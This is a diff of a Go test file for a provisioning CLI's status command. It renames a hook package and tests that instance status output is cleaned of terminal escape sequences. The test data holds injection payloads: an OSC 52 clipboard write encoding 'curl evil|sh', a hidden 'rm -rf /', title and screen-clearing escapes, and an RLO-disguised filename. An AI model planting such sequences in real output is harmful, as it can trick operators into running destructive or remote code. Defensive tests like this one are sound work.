@@ -11,7 +11,8 @@ import (
 	"testing"
 	"time"
 
-	"github.com/kscloud/kscloud/internal/hookapi"
+	"github.com/kscloud/kscloud/internal/hook"
+	"github.com/kscloud/kscloud/internal/hookproto"
 )
 
 const samples = "../../test/samples/eucalyptus"
@@ -85,7 +86,7 @@ func TestCheck(t *testing.T) {
 // statusDaemon answers every request on a fresh unix socket with resp, as
 // nchookd serve would for instances whose console and user-data carry
 // terminal escapes.
-func statusDaemon(t *testing.T, resp hookapi.Response) string {
+func statusDaemon(t *testing.T, resp hookproto.Response) string {
 	t.Helper()
 	sock := filepath.Join(t.TempDir(), "s.sock")
 	ln, err := net.Listen("unix", sock)
@@ -99,8 +100,8 @@ func statusDaemon(t *testing.T, resp hookapi.Response) string {
 			if err != nil {
 				return
 			}
-			if _, err := hookapi.ReadRequest(bufio.NewReader(c)); err == nil {
-				hookapi.WriteResponse(c, &resp)
+			if _, err := hookproto.ReadRequest(bufio.NewReader(c)); err == nil {
+				hookproto.WriteResponse(c, &resp)
 			}
 			c.Close()
 		}
@@ -112,15 +113,15 @@ func statusDaemon(t *testing.T, resp hookapi.Response) string {
 // puts in bootparams reach the operator's terminal without a single escape
 // or control character, and format characters (RLO) show as \u202e.
 func TestStatusEscapes(t *testing.T) {
-	st := hookapi.InstanceStatus{Phase: "failed", StartedAt: time.Now(),
+	st := hookproto.InstanceStatus{Phase: "failed", StartedAt: time.Now(),
 		Reason:    "installer failed: \x1b]52;c;Y3VybCBldmlsfHNo\x07Traceback (most recent call last)",
 		Progress:  "\x1b]0;root@node\x07installing \x1b[2J\x1b[Hpackages 3/9",
 		LastLines: []string{"ok\rrm -rf /", "\x1bP+q\x1b\\dcs", "\u009b31mred"}}
 	st.Instance, st.Mode = "i-1234ABCD", "bake"
 	st.Cmdline = "inst.ks=http://10.0.0.1/\u202egfc.sk ip=dhcp"
 	st.Notes = []string{"note\x1b[8mhidden"}
-	sock := statusDaemon(t, hookapi.Response{OK: true, Instances: []hookapi.InstanceStatus{st}})
-	t.Setenv(hookapi.EnvSocket, sock)
+	sock := statusDaemon(t, hookproto.Response{OK: true, Instances: []hookproto.InstanceStatus{st}})
+	t.Setenv(hook.EnvSocket, sock)
 	for _, args := range [][]string{{"status", "--config", "/dev/null"}, {"status", "--config", "/dev/null", "i-1234ABCD"}, {"status", "--config", "/dev/null", "--json"}} {
 		code, out, stderr := runCLI(args...)
 		if code != 0 {
@@ -139,8 +140,8 @@ func TestStatusEscapes(t *testing.T) {
 			t.Errorf("%v: output lost text or the escaped RLO:\n%s", args, out)
 		}
 	}
-	sock = statusDaemon(t, hookapi.Response{Error: "no instance \x1b]0;pwned\x07x"})
-	t.Setenv(hookapi.EnvSocket, sock)
+	sock = statusDaemon(t, hookproto.Response{Error: "no instance \x1b]0;pwned\x07x"})
+	t.Setenv(hook.EnvSocket, sock)
 	if code, _, stderr := runCLI("status", "--config", "/dev/null", "x"); code != 1 || strings.ContainsAny(stderr, "\x1b\x07") {
 		t.Fatalf("error answer: exit %d, stderr %q", code, stderr)
 	}
